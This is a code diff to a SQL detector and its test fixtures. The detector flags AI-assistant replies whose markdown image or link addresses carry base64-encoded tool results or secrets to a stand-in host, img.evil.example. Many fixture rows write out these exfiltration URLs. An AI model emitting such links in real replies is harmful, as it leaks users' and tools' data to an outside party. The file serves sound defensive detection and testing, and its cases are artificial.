@@ -39,18 +39,24 @@
 -- ]
 -- [[case]]
 -- name = "shown only afterwards"
--- messages = [
+-- history_messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m6", position = 6, role = "tool", kind = "tool_result", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:06:00Z, record_id = 6 },
+-- ]
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
 -- ]
 -- expect = [
 --   { count = 1 },
 -- ]
 -- [[case]]
 -- name = "another conversation showed it"
--- messages = [
+-- history_messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "d", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:02:00Z, record_id = 2 },
+-- ]
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
 -- ]
 -- expect = [
 --   { count = 1 },
@@ -69,27 +75,33 @@
 -- expect = []
 -- [[case]]
 -- name = "the user gave the image"
--- messages = [
+-- history_messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m1", position = 1, role = "user", kind = "text", text = "see ![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 83, time = 2026-03-01T09:01:00Z, record_id = 1 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
 -- ]
 -- expect = []
 -- [[case]]
 -- name = "a result held the image"
--- messages = [
+-- history_messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:02:00Z, record_id = 2 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
 -- ]
 -- expect = []
 -- [[case]]
 -- name = "a result alone"
--- messages = [
+-- history_messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:02:00Z, record_id = 2 },
 -- ]
 -- expect = []
 -- [[case]]
 -- name = "the user alone"
--- messages = [
+-- history_messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "user", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:02:00Z, record_id = 2 },
 -- ]
 -- expect = []
@@ -101,8 +113,11 @@
 -- expect = []
 -- [[case]]
 -- name = "the user had said something else"
--- messages = [
+-- history_messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m0", position = 0, role = "user", kind = "text", text = "Show me the chart.", bytes = 20, time = 2026-03-01T09:00:30Z, record_id = 1 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "Done. ![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "Done. ![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
 -- ]
 -- expect = [
@@ -110,6 +125,10 @@
 -- ]
 -- [[case]]
 -- name = "said twice by the model"
+-- history_messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "Done. ![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m6", position = 6, role = "assistant", kind = "text", text = "Done. ![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 85, time = 2026-03-01T09:06:00Z, record_id = 6 },
+-- ]
 -- messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "Done. ![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m6", position = 6, role = "assistant", kind = "text", text = "Done. ![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 85, time = 2026-03-01T09:06:00Z, record_id = 6 },
@@ -120,8 +139,11 @@
 -- ]
 -- [[case]]
 -- name = "the address holds what a tool had returned"
--- messages = [
+-- history_messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "Summary: the quarterly numbers of the northern region are down by twelve percent.", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
 -- ]
 -- expect = [
@@ -129,8 +151,11 @@
 -- ]
 -- [[case]]
 -- name = "what the user had typed is theirs"
--- messages = [
+-- history_messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "user", kind = "text", text = "the quarterly numbers of the northern region are down by twelve percent", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
 -- ]
 -- expect = [
@@ -138,8 +163,11 @@
 -- ]
 -- [[case]]
 -- name = "returned only afterwards"
--- messages = [
+-- history_messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m6", position = 6, role = "tool", kind = "tool_result", text = "the quarterly numbers of the northern region are down by twelve percent", bytes = 85, time = 2026-03-01T09:06:00Z, record_id = 6 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
 -- ]
 -- expect = [
@@ -147,8 +175,11 @@
 -- ]
 -- [[case]]
 -- name = "returned in another conversation"
--- messages = [
+-- history_messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "d", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "the quarterly numbers of the northern region are down by twelve percent", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
 -- ]
 -- expect = [
@@ -156,8 +187,11 @@
 -- ]
 -- [[case]]
 -- name = "a tool had returned something else"
--- messages = [
+-- history_messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "nothing of the kind stands here at all", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
 -- ]
 -- expect = [
@@ -192,8 +226,11 @@
 -- ]
 -- [[case]]
 -- name = "a link whose address holds what a tool had returned"
--- messages = [
+-- history_messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "Summary: the quarterly numbers of the northern region are down by twelve percent.", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "[x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "[x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
 -- ]
 -- expect = [
@@ -201,29 +238,38 @@
 -- ]
 -- [[case]]
 -- name = "a link, and a tool had returned something else"
--- messages = [
+-- history_messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "nothing of the kind stands here at all", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "[x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "[x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
 -- ]
 -- expect = []
 -- [[case]]
 -- name = "such a link that is only thought of"
--- messages = [
+-- history_messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "Summary: the quarterly numbers of the northern region are down by twelve percent.", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "thinking", text = "[x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "thinking", text = "[x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
 -- ]
 -- expect = []
 -- [[case]]
 -- name = "such a link of the user"
--- messages = [
+-- history_messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "Summary: the quarterly numbers of the northern region are down by twelve percent.", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "user", kind = "text", text = "[x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
 -- ]
 -- expect = []
 -- [[case]]
 -- name = "a harmless link before an image"
--- messages = [
+-- history_messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "Summary: the quarterly numbers of the northern region are down by twelve percent.", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "[docs](https://docs.example/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) ![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "[docs](https://docs.example/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) ![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
 -- ]
 -- expect = [
@@ -246,7 +292,7 @@ carried AS (
   -- What stands encoded in the address is what a tool had returned.
   SELECT DISTINCT l.message_id, l.address
   FROM links l
-  JOIN messages m ON m.conversation_id = l.conversation_id AND m.position < l.position
+  JOIN history_messages m ON m.conversation_id = l.conversation_id AND m.position < l.position
   WHERE m.role = 'tool' AND shared_words(decoded(l.address), m.text, $run) > 0
 ),
 familiar AS (
@@ -258,7 +304,7 @@ known AS (
   -- An address that the user, the system prompt or a result showed whole was only passed on.
   SELECT DISTINCT l.message_id, l.address
   FROM links l
-  JOIN messages m ON m.conversation_id = l.conversation_id AND m.position < l.position
+  JOIN history_messages m ON m.conversation_id = l.conversation_id AND m.position < l.position
   WHERE m.role <> 'assistant' AND strpos(m.text, l.address) > 0
 )
 SELECT
